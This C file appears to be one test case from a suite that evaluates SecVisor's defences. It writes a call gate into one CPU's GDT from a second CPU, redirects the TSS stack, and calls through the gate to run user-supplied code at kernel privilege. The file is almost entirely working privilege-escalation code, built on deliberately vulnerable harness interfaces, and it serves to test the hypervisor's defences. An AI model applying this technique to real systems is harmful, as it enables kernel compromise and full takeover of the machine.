// Row 10. A call gate put into the first CPU's GDT by the second, while the first executes user code; then the user program calls through it.
// Source: threat table; call gates (row 9) across CPUs.
// Ends: natively succeeded; beneath SecVisor refused, instruction: a general-protection fault of the user program.
#include "common/attack.h"
#include <string.h>
#include <sys/mman.h>

struct plan {
	volatile int spins, done;
	u64 at, stack_field, stack;
	u8 gate[16];
};

static void write_gate(void *with)
{
	struct plan *plan = with;

	while (!plan->spins)
		;
	// What refuses the call does so on the stack the TSS names: a roomy one.
	poke_bytes(plan->stack_field, &plan->stack, 8);
	poke_bytes(plan->at, plan->gate, sizeof(plan->gate));
	plan->done = 1;
}

ATTACK("gdt-gate-other-cpu")
{
	struct plan *plan = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	u64 gs = operate(VULNERABLE_GS, 0, 0, 0);
	u8 *page = user_page();
	// Where the kernel puts the LDT's descriptor; this process has none.
	const u16 selector = 10 * 8;
	long result;

	memcpy(page, "\xb8\x37\x13\0\0\x48\xcb", 7); // mov eax, 0x1337; lretq
	make_executable((u64)page);
	plan->at = tables().gdt + selector;
	plan->stack_field = tables().tss + 4;
	plan->stack = operate(VULNERABLE_VMALLOC, 16 * PAGE, 0, 0) + 15 * PAGE;
	call_gate(plan->gate, (u64)page);
	on_second_cpu(write_gate, plan);
	expect_fault();
	about_to("call through a gate that the second CPU writes now");
	unprotect();
	plan->spins = 1;
	while (!plan->done)
		;
	result = call_far(selector | 3, gs);
	if (result == MARK)
		succeeded("the second CPU's call gate led to a user page at CPL 0");
	failed("the call returned %ld", result);
}
